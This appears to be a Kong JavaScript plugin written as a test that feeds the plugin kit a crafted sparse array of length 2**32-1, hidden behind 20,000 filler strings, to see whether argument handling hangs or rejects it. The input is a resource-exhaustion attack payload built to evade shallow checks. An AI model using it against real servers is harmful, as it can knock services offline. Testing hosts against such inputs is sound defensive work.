// Attack: a sparse array of length 2**32-1 as a PDK argument: nothing in the isolate's heap, but four
// billion holes to whoever walks it element by element. It sits behind 20 000 small strings, more
// than any cheap first look at the argument will visit.
class Plugin {
  async access(kong) {
    const filler = new Array(20000).fill('f');
    let outcome;
    try {
      await kong.response.setHeader('x-arg', [new Array(2 ** 32 - 1), filler]);
      outcome = 'sent';
    } catch (e) {
      outcome = `${e.name}: ${e.message}`;
    }
    await kong.response.setHeader('x-got', JSON.stringify({ outcome }));
  }
}
module.exports = { Plugin, Version: '1.0.0', Priority: 1 };
